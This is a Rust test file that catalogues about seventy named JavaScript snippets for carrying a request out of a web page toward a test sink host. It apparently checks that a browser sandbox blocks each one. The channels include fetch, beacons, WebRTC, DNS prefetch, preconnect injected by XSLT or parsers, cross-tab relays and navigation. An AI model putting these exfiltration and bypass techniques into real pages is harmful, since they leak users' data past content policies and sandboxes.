//! Every way by which a script might carry something out of a page, each with a name.

use crate::sink::Sink;

/// What a channel needs of the page it is tried in.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Manner {
    /// Leaves the page as it was: many of them are tried in one page.
    Stays,
    /// Takes the page elsewhere: tried in a page of its own.
    Leaves,
    /// Shows itself as a question for a host name, in the browser's own record of its networking.
    AsksForName,
}

/// One way out.
pub struct Channel {
    /// What a failing test prints.
    pub name: &'static str,
    /// How it is tried.
    pub manner: Manner,
    script: &'static str,
}

impl Channel {
    /// The script that tries this way out towards a sink. It may use `http`, `ws`, `https`, `host` and
    /// `name` (a host name that nobody else asks for), and `make(tag, properties)`, which makes an element
    /// and puts it into the page, and `keep(thing)`, which spares a thing from being collected as garbage.
    pub fn script(&self, sink: &Sink) -> String {
        let host = sink.address();
        format!(
            "(() => {{
                const host = '{host}', http = 'http://{host}/', https = 'https://{host}/', ws = 'ws://{host}/', name = '{}';
                const make = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
                const keep = thing => (globalThis.kept ??= []).push(thing);
                const attempt = async () => {{ {} }};
                attempt().catch(() => {{}});
            }})()",
            self.host_name(),
            self.script
        )
    }

    /// The host name by which [`Manner::AsksForName`] is recognised.
    pub fn host_name(&self) -> String {
        let letters: String = self
            .name
            .chars()
            .map(|letter| {
                if letter.is_ascii_alphanumeric() {
                    letter.to_ascii_lowercase()
                } else {
                    '-'
                }
            })
            .collect();
        format!("{letters}.pandu-test.example")
    }
}

const fn stays(name: &'static str, script: &'static str) -> Channel {
    Channel {
        name,
        manner: Manner::Stays,
        script,
    }
}

const fn leaves(name: &'static str, script: &'static str) -> Channel {
    Channel {
        name,
        manner: Manner::Leaves,
        script,
    }
}

const fn asks(name: &'static str, script: &'static str) -> Channel {
    Channel {
        name,
        manner: Manner::AsksForName,
        script,
    }
}

/// Those that even an unprotected frame in a headless browser does not show: the first is fetched for whole
/// tabs with a window only, the second for whole tabs only, the third after a person's hesitation. They are tried all the same.
pub const UNSEEN: [&str; 3] = [
    "icon",
    "speculation rules",
    "dns-prefetch by a link in view",
];

/// All of them.
pub const CHANNELS: &[Channel] = &[
    // Requests by script.
    stays("fetch", "await fetch(http, {mode: 'no-cors'})"),
    stays(
        "fetch with keepalive",
        "await fetch(http, {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true})",
    ),
    stays(
        "XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('GET', http); x.send()",
    ),
    stays("beacon", "navigator.sendBeacon(http, 'x')"),
    stays("WebSocket", "new WebSocket(ws)"),
    stays("EventSource", "new EventSource(http)"),
    stays("WebTransport", "await new WebTransport(https).ready"),
    // Pictures, media, fonts, objects.
    stays("image", "new Image().src = http"),
    stays("image set", "make('img', {srcset: http + ' 1x'})"),
    stays("input image", "make('input', {type: 'image', src: http})"),
    stays(
        "SVG image",
        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', http); s.append(i); document.body.append(s)",
    ),
    stays(
        "audio",
        "const m = new Audio(http); m.preload = 'auto'; m.load()",
    ),
    stays("video", "make('video', {src: http, preload: 'auto'})"),
    stays("video poster", "make('video', {poster: http})"),
    stays(
        "text track",
        "const v = make('video', {crossOrigin: 'anonymous'}), t = document.createElement('track'); Object.assign(t, {src: http, default: true}); v.append(t); t.track.mode = 'showing'",
    ),
    stays("font", "await new FontFace('x', `url(${http})`).load()"),
    stays(
        "field turned into an image",
        "Object.assign(document.querySelector('input'), {type: 'image', src: http})",
    ),
    stays("object", "make('object', {data: http, type: 'text/html'})"),
    stays("embed", "make('embed', {src: http, type: 'text/html'})"),
    stays(
        "editing command",
        "const d = make('div', {contentEditable: 'true', textContent: 'x'}); d.focus(); getSelection().selectAllChildren(d); document.execCommand('insertImage', false, http)",
    ),
    // Styles.
    stays(
        "stylesheet",
        "make('link', {rel: 'stylesheet', href: http})",
    ),
    stays(
        "imported stylesheet",
        "make('style', {textContent: `@import '${http}';`})",
    ),
    stays(
        "style attribute",
        "make('p', {textContent: 'x'}).setAttribute('style', `background: url(${http})`)",
    ),
    stays(
        "style property",
        "make('p', {textContent: 'x'}).style.backgroundImage = `url(${http})`",
    ),
    stays(
        "constructed stylesheet",
        "const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${http}) }`); document.adoptedStyleSheets = [s]",
    ),
    stays(
        "inserted rule",
        "document.styleSheets[0].insertRule(`html { background-image: url(${http}) }`)",
    ),
    // Scripts and workers.
    stays("script element", "make('script', {src: http})"),
    stays("module import", "await import(http)"),
    stays("worklet", "await CSS.paintWorklet.addModule(http)"),
    stays(
        "late worker",
        "new Worker(URL.createObjectURL(new Blob([`fetch('${http}', {mode: 'no-cors'})`])))",
    ),
    stays(
        "worker from data",
        "new Worker(`data:text/javascript,fetch('${http}', {mode: 'no-cors'})`)",
    ),
    stays(
        "shared worker",
        "new SharedWorker(`data:text/javascript,fetch('${http}', {mode: 'no-cors'})`)",
    ),
    // Frames.
    stays("frame", "make('iframe', {src: http})"),
    stays(
        "frame with a document",
        "make('iframe', {srcdoc: `<img src=\"${http}\">`})",
    ),
    stays(
        "script of an empty frame",
        "make('iframe', {}).contentWindow.fetch(http, {mode: 'no-cors'})",
    ),
    stays(
        "old frame",
        "document.documentElement.append(Object.assign(document.createElement('frameset'), {})); document.documentElement.lastChild.append(Object.assign(document.createElement('frame'), {src: http}))",
    ),
    // Links that fetch ahead of time.
    stays(
        "prefetch",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: http}))",
    ),
    stays(
        "preload",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'image', href: http}))",
    ),
    stays(
        "module preload",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: http}))",
    ),
    stays(
        "icon",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'icon', href: http}))",
    ),
    stays(
        "preconnect",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: http}))",
    ),
    stays(
        "preconnect from another document",
        "const d = document.implementation.createHTMLDocument(''); const l = d.createElement('link'); Object.assign(l, {rel: 'preconnect', href: http}); document.head.append(document.adoptNode(l))",
    ),
    stays(
        "preconnect by parser",
        "const d = new DOMParser().parseFromString(`<link rel=preconnect href=${http}>`, 'text/html'); document.head.append(document.adoptNode(d.querySelector('link')))",
    ),
    stays(
        "preconnect by fragment",
        "document.head.append(document.createRange().createContextualFragment(`<link rel=preconnect href=${http}>`))",
    ),
    stays(
        "preconnect by innerHTML",
        "document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${http}>`)",
    ),
    stays(
        "preconnect by setHTMLUnsafe",
        "const d = make('div', {}); d.setHTMLUnsafe(`<link rel=preconnect href=${http}>`)",
    ),
    stays(
        "preconnect by document.write",
        "const d = document.implementation.createHTMLDocument(''); d.write(`<link rel=preconnect href=${http}>`); document.head.append(document.adoptNode(d.querySelector('link')))",
    ),
    stays(
        "preconnect by a bare Document",
        "const l = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.rel = 'preconnect'; l.href = http; document.head.append(l)",
    ),
    stays(
        "preconnect by the prototype's createElement",
        "const l = Document.prototype.createElement.call(document, 'LINK'); Object.assign(l, {rel: 'preconnect', href: http}); document.head.append(l)",
    ),
    stays(
        "preconnect by XSLT",
        "const p = new DOMParser(), x = new XSLTProcessor(); x.importStylesheet(p.parseFromString(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><link xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='${http}'/></xsl:template></xsl:stylesheet>`, 'text/xml')); document.head.append(x.transformToFragment(p.parseFromString('<a/>', 'text/xml'), document))",
    ),
    stays(
        "speculation rules",
        "make('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [http]}]})})",
    ),
    asks(
        "dns-prefetch",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'dns-prefetch', href: `//${name}`}))",
    ),
    asks(
        "dns-prefetch by a link in view",
        "const m = document.createElement('meta'); m.httpEquiv = 'x-dns-prefetch-control'; m.content = 'on'; document.head.append(m); make('a', {href: `http://${name}/`, textContent: 'x'})",
    ),
    asks(
        "name in a WebRTC server",
        "const p = new RTCPeerConnection({iceServers: [{urls: `stun:${name}`}]}); keep(p); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    ),
    // WebRTC.
    stays(
        "WebRTC over UDP",
        "const p = new RTCPeerConnection({iceServers: [{urls: `stun:${host}`}]}); keep(p); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    ),
    stays(
        "WebRTC over TCP",
        "const p = new RTCPeerConnection({iceServers: [{urls: `turn:${host}?transport=tcp`, username: 'x', credential: 'x'}]}); keep(p); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    ),
    stays(
        "WebRTC by its old name",
        "const p = new webkitRTCPeerConnection({iceServers: [{urls: `stun:${host}`}]}); keep(p); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    ),
    stays(
        "WebRTC of an empty frame",
        "const W = make('iframe', {}).contentWindow; const p = new W.RTCPeerConnection({iceServers: [{urls: `stun:${host}`}]}); keep(p); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    ),
    // Another tab of the same site, which listens and passes on.
    stays(
        "another tab by BroadcastChannel",
        "new BroadcastChannel('pandu-test').postMessage(http)",
    ),
    stays(
        "another tab by localStorage",
        "localStorage.setItem('pandu-test', http)",
    ),
    stays(
        "another tab by cookie",
        "document.cookie = `pandu-test=${http};path=/`",
    ),
    // Links and forms.
    stays("window.open", "window.open(http)"),
    stays(
        "window.open without opener",
        "window.open(http, '_blank', 'noopener')",
    ),
    stays(
        "link to a new tab",
        "make('a', {href: http, target: '_blank'}).click()",
    ),
    stays(
        "form to a new tab",
        "const f = make('form', {action: http, target: '_blank'}); f.submit()",
    ),
    leaves("ping", "make('a', {href: '#', ping: http}).click()"),
    leaves("form by GET", "make('form', {action: http}).submit()"),
    leaves(
        "form by POST",
        "make('form', {action: http, method: 'post'}).requestSubmit()",
    ),
    // With an address of another origin the browser ignores the attribute and goes there.
    leaves("download", "make('a', {href: http, download: 'x'}).click()"),
    leaves("link click", "make('a', {href: http}).click()"),
    leaves(
        "SVG link click",
        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), a = document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', http); s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent('click', {bubbles: true}))",
    ),
    leaves("location", "location.href = http"),
    leaves("location.replace", "location.replace(http)"),
    leaves("navigation API", "navigation.navigate(http)"),
    leaves("location of the tab", "top.location = http"),
    leaves(
        "meta refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${http}`; document.head.append(m)",
    ),
];
